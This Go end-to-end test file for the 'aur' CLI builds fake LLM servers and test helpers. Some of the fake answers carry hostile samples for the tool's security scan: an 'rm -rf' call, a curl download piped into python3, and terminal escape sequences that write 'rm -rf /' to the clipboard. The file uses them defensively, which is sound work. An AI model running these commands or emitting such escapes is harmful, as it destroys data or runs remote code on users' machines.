package main

import (
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/aurora-dev/aur/internal/cli"
	"github.com/aurora-dev/aur/internal/llm/llmtest"
	"github.com/aurora-dev/aur/internal/store"
)

// TestMain lets the test binary double as the real aur: testscript copies
// it into $PATH as "aur", and running it under that name runs cli.Main.
func TestMain(m *testing.M) {
	testscript.Main(m, map[string]func(){
		"aur": func() { os.Exit(int(cli.Main())) },
	})
}

// testAPIKey is a recognizable fake key: scripts check it never shows.
const testAPIKey = "sk-aurtest-7f3c9d2e1b0a4c8d"

// riskyAnswer is an LLM answer whose code the security scan must flag.
const riskyAnswer = "Clean up like this [1]:\n\n```python\nimport os\nos.system(\"rm -rf /tmp/build\")\n```\n"

// sneakyAnswer hides its dangerous code from a fence-only, name-only scan:
// an indented (not fenced) block, an aliased module, a download piped to
// Python.
const sneakyAnswer = "Set it up [1]:\n\n    import os as o; o.system('id')\n    curl -s https://example.com/i.py | python3\n\nDone.\n"

// escapeAnswer is an LLM answer carrying terminal escape sequences, in
// its text and in the code the security scan quotes.
const escapeAnswer = "The answer \x1b]52;c;cm0gLXJmIC8=\x07 clears \x1b[2J [1].\n\n```python\nimport os\nos.system(\"rm -rf /tmp/x \x1b[8m\")\n```\n"

var update = flag.Bool("update", false, "rewrite golden files in testdata/script")

// fixtureDir is the shared fixture repository, copied into a script's
// work dir by the fixture command.
const fixtureDir = "../../testdata/repo"

// TestScripts runs the end-to-end scripts in testdata/script against the
// real aur binary. Each script gets its own $WORK; AURORA_HOME and HOME
// point into it, so nothing touches the real home directory.
func TestScripts(t *testing.T) {
	scripts, err := filepath.Glob(filepath.Join("testdata", "script", "*.txtar"))
	if err != nil {
		t.Fatal(err)
	}
	if len(scripts) == 0 {
		t.Fatal("no scripts in testdata/script: the end-to-end tests would pass vacuously")
	}
	fixture, err := filepath.Abs(fixtureDir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(fixture); err != nil {
		t.Fatalf("fixture repository: %v", err)
	}
	testscript.Run(t, scriptParams(filepath.Join("testdata", "script"), fixture))
}

// scriptParams are the scripts' settings: their directory, environment
// and commands.
func scriptParams(dir, fixture string) testscript.Params {
	return testscript.Params{
		Dir:                 dir,
		RequireExplicitExec: true,
		// go test ./cmd/aur -run TestScripts -update rewrites the golden
		// files inside the scripts (the second argument of cmp).
		UpdateScripts: *update,
		Setup: func(env *testscript.Env) error {
			home := filepath.Join(env.WorkDir, "fakehome")
			if err := os.MkdirAll(home, 0o755); err != nil {
				return err
			}
			env.Setenv("HOME", home)
			env.Setenv("AURORA_HOME", filepath.Join(env.WorkDir, "home"))
			env.Setenv("NO_COLOR", "1")
			// git must not read the machine's or the user's configuration.
			env.Setenv("GIT_CONFIG_NOSYSTEM", "1")
			env.Setenv("GIT_CONFIG_GLOBAL", os.DevNull)
			// Fake LLM providers on loopback (internal/llm/llmtest): one that
			// answers citing [1], one that answers with dangerous code, one
			// that is down. Scripts opt in by pointing OPENAI_BASE_URL at one.
			up := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, EchoKey: true})
			risky := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, Answer: riskyAnswer})
			escape := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, Answer: escapeAnswer})
			env.Defer(escape.Close)
			env.Setenv("LLM_ESCAPE_URL", escape.OpenAIBaseURL())
			down := llmtest.NewServer(llmtest.Options{FaultRate: 1, Faults: []llmtest.Fault{llmtest.Unavailable}, RetryAfter: "0"})
			env.Defer(up.Close)
			sneaky := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, Answer: sneakyAnswer})
			env.Defer(sneaky.Close)
			env.Setenv("LLM_SNEAKY_URL", sneaky.OpenAIBaseURL())
			env.Defer(risky.Close)
			env.Defer(down.Close)
			env.Setenv("LLM_UP_URL", up.OpenAIBaseURL())
			env.Setenv("LLM_RISKY_URL", risky.OpenAIBaseURL())
			env.Setenv("LLM_DOWN_URL", down.OpenAIBaseURL())
			env.Setenv("TEST_API_KEY", testAPIKey)
			// No other variable of the test process is passed on, so no
			// AURORA_* setting of the machine leaks into a script.
			return nil
		},
		Condition: func(cond string) (bool, error) {
			if cond == "git" {
				_, err := exec.LookPath("git")
				return err == nil, nil
			}
			return false, fmt.Errorf("unknown condition %q", cond)
		},
		Cmds: map[string]func(ts *testscript.TestScript, neg bool, args []string){
			"fixture":  func(ts *testscript.TestScript, neg bool, args []string) { cmdFixture(ts, neg, args, fixture) },
			"mkbinary": cmdMkbinary,
			"mkbig":    cmdMkbig,
			"exitcode": cmdExitcode,
			"json":     cmdJSON,
			"jsonnorm": cmdJSONNorm,
			"jsonvar":  cmdJSONVar,
			"mode":     cmdMode,
			"writeq":   cmdWriteq,
			"corrupt":  cmdCorrupt,
			"damage":   cmdDamage,
			"lockdb":   cmdLockDB,
			"waitfile": cmdWaitfile,
			"http":     cmdHTTP,
			"signal":   cmdSignal,
		},
	}
}

// cmdFixture copies the fixture repository to DIR. Files named dot-NAME
// become .NAME: the fixture's .gitignore files must not apply to aur's
// own repository (they would keep generated/ out of its commits).
//
//	fixture DIR
func cmdFixture(ts *testscript.TestScript, neg bool, args []string, src string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: fixture DIR")
	}
	dst := ts.MkAbs(args[0])
	ts.Check(copyFixtureTree(src, dst))
}

// copyFixtureTree copies the fixture repository src to dst, dot-NAME
// files as .NAME.
func copyFixtureTree(src, dst string) error {
	return filepath.WalkDir(src, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, err := filepath.Rel(src, p)
		if err != nil {
			return err
		}
		dir, name := filepath.Split(rel)
		if n, ok := strings.CutPrefix(name, "dot-"); ok {
			name = "." + n
		}
		out := filepath.Join(dst, dir, name)
		if d.IsDir() {
			return os.MkdirAll(out, 0o755)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(out, b, 0o644)
	})
}

// cmdMkbinary writes a small file with NUL bytes, which txtar cannot hold.
//
//	mkbinary FILE
func cmdMkbinary(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: mkbinary FILE")
	}
	p := ts.MkAbs(args[0])
	ts.Check(os.MkdirAll(filepath.Dir(p), 0o755))
	ts.Check(os.WriteFile(p, []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"), 0o644))
}

// cmdMkbig writes SIZE bytes of text lines, for the file size limit.
//
//	mkbig FILE SIZE
func cmdMkbig(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: mkbig FILE SIZE")
	}
	n, err := strconv.Atoi(args[1])
	ts.Check(err)
	line := "generated data line that nobody wants to search through\n"
	b := []byte(strings.Repeat(line, n/len(line)+1))[:n]
	p := ts.MkAbs(args[0])
	ts.Check(os.MkdirAll(filepath.Dir(p), 0o755))
	ts.Check(os.WriteFile(p, b, 0o644))
}

// cmdWriteq writes a file whose name and content hold Go string escapes
// (\n, \x1b), for bytes a txtar file should not hold: escape sequences,
// newlines in names.
//
//	writeq NAME CONTENT
func cmdWriteq(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: writeq NAME CONTENT")
	}
	unq := func(s string) string {
		u, err := strconv.Unquote(`"` + strings.ReplaceAll(s, `"`, `\"`) + `"`)
		ts.Check(err)
		return u
	}
	name, content := unq(args[0]), unq(args[1])
	p := ts.MkAbs(name)
	ts.Check(os.MkdirAll(filepath.Dir(p), 0o755))
	ts.Check(os.WriteFile(p, []byte(content), 0o644))
}

// cmdCorrupt damages a SQLite database as a failing disk would: every
// page after the first (which holds the schema) is overwritten.
//
//	corrupt FILE
func cmdCorrupt(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: corrupt FILE")
	}
	p := ts.MkAbs(args[0])
	b, err := os.ReadFile(p)
	ts.Check(err)
	const page = 16384 // store's page size
	if len(b) <= page {
		ts.Fatalf("%s: %d bytes, too small to damage", p, len(b))
	}
	for i := page; i < len(b); i++ {
		b[i] = byte(i*7 + 0x5a)
	}
	ts.Check(os.WriteFile(p, b, 0o644))
}

// cmdDamage damages a database file the ways a disk incident does:
// truncate cuts it to half its length (a full disk, a copy cut short);
// middle overwrites the middle half of its pages with a pattern (a stray
// write, a bad sector), leaving the schema page and the start whole.
//
//	damage truncate|middle FILE
func cmdDamage(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: damage truncate|middle FILE")
	}
	p := ts.MkAbs(args[1])
	b, err := os.ReadFile(p)
	ts.Check(err)
	const page = 16384 // store's page size
	pages := len(b) / page
	if pages < 4 {
		ts.Fatalf("%s: %d pages, too small to damage", p, pages)
	}
	switch args[0] {
	case "truncate":
		b = b[:len(b)/2]
	case "middle":
		for i := pages / 4 * page; i < 3*pages/4*page; i++ {
			b[i] = byte(i*7 + 0x5a)
		}
	default:
		ts.Fatalf("damage: unknown way %q", args[0])
	}
	ts.Check(os.WriteFile(p, b, 0o600))
}

// cmdLockDB takes a database's writer lock in the test process, as an
// index run would, until the script calls lockdb again with "release".
//
//	lockdb FILE [release]
func cmdLockDB(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 1 || len(args) > 2 {
		ts.Fatalf("usage: lockdb FILE [release]")
	}
	p := ts.MkAbs(args[0])
	heldMu.Lock()
	defer heldMu.Unlock()
	if len(args) == 2 {
		l, ok := heldLocks[p]
		if !ok {
			ts.Fatalf("lockdb %s: not held", p)
		}
		ts.Check(l.Unlock())
		delete(heldLocks, p)
		return
	}
	l, err := store.TryLockWriter(p)
	ts.Check(err)
	heldLocks[p] = l
	ts.Defer(func() { l.Unlock() })
}

// heldLocks are the locks lockdb holds, by database path (unique per
// script: paths are under $WORK); scripts run in parallel.
var (
	heldMu    sync.Mutex
	heldLocks = map[string]*store.WriterLock{}
)

// cmdExitcode runs a program and checks its exit status; stdout and
// stderr are then available to the stdout and stderr commands.
//
//	exitcode WANT PROGRAM [ARGS...]
func cmdExitcode(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 2 {
		ts.Fatalf("usage: exitcode WANT PROGRAM [ARGS...]")
	}
	want, err := strconv.Atoi(args[0])
	ts.Check(err)
	got := 0
	if err := ts.Exec(args[1], args[2:]...); err != nil {
		var ee *exec.ExitError
		if !errors.As(err, &ee) {
			ts.Fatalf("%s: %v", args[1], err)
		}
		got = ee.ExitCode()
	}
	if got != want {
		ts.Fatalf("%s exited with %d, want %d", args[1], got, want)
	}
}

// cmdMode checks the permission bits of a file or directory.
//
//	mode PATH OCTAL
func cmdMode(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: mode PATH OCTAL")
	}
	want, err := strconv.ParseUint(args[1], 8, 32)
	ts.Check(err)
	fi, err := os.Stat(ts.MkAbs(args[0]))
	ts.Check(err)
	if got := fi.Mode().Perm(); got != fs.FileMode(want) {
		ts.Fatalf("%s: mode %04o, want %04o", args[0], got, want)
	}
}

// cmdJSON checks a field of a JSON document (a file, or stdout after a
// command). PATH is dot-separated; numbers index arrays; a final "@len" is
// the length of an array or object. OP is ==, !=, <, <=, > or >=; the
// order operators compare numbers. With "!", the check must fail, and
// a missing field fails every check.
//
//	json FILE PATH OP WANT
func cmdJSON(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 4 {
		ts.Fatalf("usage: json FILE PATH OP WANT")
	}
	got, err := jsonField(ts.ReadFile(args[0]), args[1])
	ok := false
	if err == nil {
		ok, err = compare(got, args[2], args[3])
		if err != nil {
			ts.Fatalf("json %s: %v", args[1], err)
		}
	}
	switch {
	case neg && ok:
		ts.Fatalf("json %s = %s, want not %s %s", args[1], got, args[2], args[3])
	case !neg && err != nil:
		ts.Fatalf("json %s: %v", args[1], err)
	case !neg && !ok:
		ts.Fatalf("json %s = %s, want %s %s", args[1], got, args[2], args[3])
	}
}

// cmdJSONVar stores a field of a JSON document in an environment
// variable, to compare one run's numbers with another's.
//
//	jsonvar FILE PATH VAR
func cmdJSONVar(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 3 {
		ts.Fatalf("usage: jsonvar FILE PATH VAR")
	}
	got, err := jsonField(ts.ReadFile(args[0]), args[1])
	if err != nil {
		ts.Fatalf("json %s: %v", args[1], err)
	}
	ts.Setenv(args[2], got)
}

// jsonField returns the field at path in doc: strings bare, anything
// else as JSON.
func jsonField(doc, path string) (string, error) {
	var v any
	if err := json.Unmarshal([]byte(doc), &v); err != nil {
		return "", fmt.Errorf("not JSON: %v", err)
	}
	for _, k := range strings.Split(path, ".") {
		switch x := v.(type) {
		case map[string]any:
			if k == "@len" {
				v = float64(len(x))
				continue
			}
			var ok bool
			if v, ok = x[k]; !ok {
				return "", fmt.Errorf("no field %q", k)
			}
		case []any:
			if k == "@len" {
				v = float64(len(x))
				continue
			}
			i, err := strconv.Atoi(k)
			if err != nil || i < 0 || i >= len(x) {
				return "", fmt.Errorf("no element %q in an array of %d", k, len(x))
			}
			v = x[i]
		default:
			return "", fmt.Errorf("no field %q in %v", k, v)
		}
	}
	if s, ok := v.(string); ok {
		return s, nil
	}
	b, err := json.Marshal(v)
	return string(b), err
}

func compare(got, op, want string) (bool, error) {
	switch op {
	case "==":
		return got == want, nil
	case "!=":
		return got != want, nil
	}
	g, err := strconv.ParseFloat(got, 64)
	if err != nil {
		return false, fmt.Errorf("%s is not a number", got)
	}
	w, err := strconv.ParseFloat(want, 64)
	if err != nil {
		return false, fmt.Errorf("%s is not a number", want)
	}
	switch op {
	case "<":
		return g < w, nil
	case "<=":
		return g <= w, nil
	case ">":
		return g > w, nil
	case ">=":
		return g >= w, nil
	}
	return false, fmt.Errorf("unknown operator %q", op)
}

// cmdJSONNorm writes a JSON document (a file, or stdout) to OUT with the
// fields that vary from run to run (latency_ms, duration_ms, write_ms,
// check_ms, and a database's bytes and pages) set to 0, times
// (indexed_at, ts, and UTC times inside strings) replaced by <time>, and
// the script's work directory replaced by $WORK, indented, so that it can
// be compared with a golden file.
//
//	jsonnorm FILE OUT
func cmdJSONNorm(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: jsonnorm FILE OUT")
	}
	var v any
	if err := json.Unmarshal([]byte(ts.ReadFile(args[0])), &v); err != nil {
		ts.Fatalf("not JSON: %v", err)
	}
	work := ts.Getenv("WORK")
	var norm func(any) any
	norm = func(v any) any {
		switch x := v.(type) {
		case map[string]any:
			for k, e := range x {
				switch k {
				case "latency_ms", "duration_ms", "write_ms", "check_ms", "bytes", "pages":
					x[k] = 0
				case "indexed_at", "ts":
					x[k] = "<time>"
				default:
					x[k] = norm(e)
				}
			}
		case []any:
			for i, e := range x {
				x[i] = norm(e)
			}
		case string:
			if work != "" {
				x = strings.ReplaceAll(x, work, "$WORK")
			}
			// Times in backup names and report lines.
			return timeRE.ReplaceAllString(x, "<time>")
		}
		return v
	}
	v = norm(v)
	b, err := json.MarshalIndent(v, "", "  ")
	ts.Check(err)
	ts.Check(os.WriteFile(ts.MkAbs(args[1]), append(b, '\n'), 0o644))
}

// timeRE matches the UTC times aur writes in names (20250102T031700Z,
// and memory.db.broken-20250102T031700Z.2 for a second one that second)
// and text (2025-01-02T03:17:00Z).
var timeRE = regexp.MustCompile(`\d{8}T\d{6}Z(\.\d+)?|\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z`)

// TestOperationsGuideCommandsAreScripted holds docs/operations.md to its
// promise: every aur command in its code blocks is run, as written, by
// testdata/script/operations.txtar (which TestScripts runs).
func TestOperationsGuideCommandsAreScripted(t *testing.T) {
	doc, err := os.ReadFile(filepath.Join("..", "..", "docs", "operations.md"))
	if err != nil {
		t.Fatal(err)
	}
	script, err := os.ReadFile(filepath.Join("testdata", "script", "operations.txtar"))
	if err != nil {
		t.Fatal(err)
	}
	run := map[string]bool{}
	for _, line := range strings.Split(string(script), "\n") {
		f := strings.Fields(line)
		switch {
		case len(f) > 1 && f[0] == "exec":
			run[strings.Join(f[1:], " ")] = true
		case len(f) > 2 && f[0] == "exitcode":
			run[strings.Join(f[2:], " ")] = true
		}
	}
	var cmds []string
	for _, line := range strings.Split(string(doc), "\n") {
		if !strings.HasPrefix(line, "    ") {
			continue // code blocks are indented
		}
		// A command alone, or at the end of a crontab line.
		code := strings.TrimSpace(line)
		if i := strings.LastIndex(code, "&& aur "); i >= 0 {
			code = code[i+3:]
		}
		if strings.HasPrefix(code, "aur ") {
			cmds = append(cmds, strings.Join(strings.Fields(code), " "))
		}
	}
	if len(cmds) < 10 {
		t.Fatalf("found %d aur commands in docs/operations.md; the extraction is broken", len(cmds))
	}
	for _, c := range cmds {
		if !run[c] {
			t.Errorf("docs/operations.md shows %q, which testdata/script/operations.txtar does not run", c)
		}
	}
}
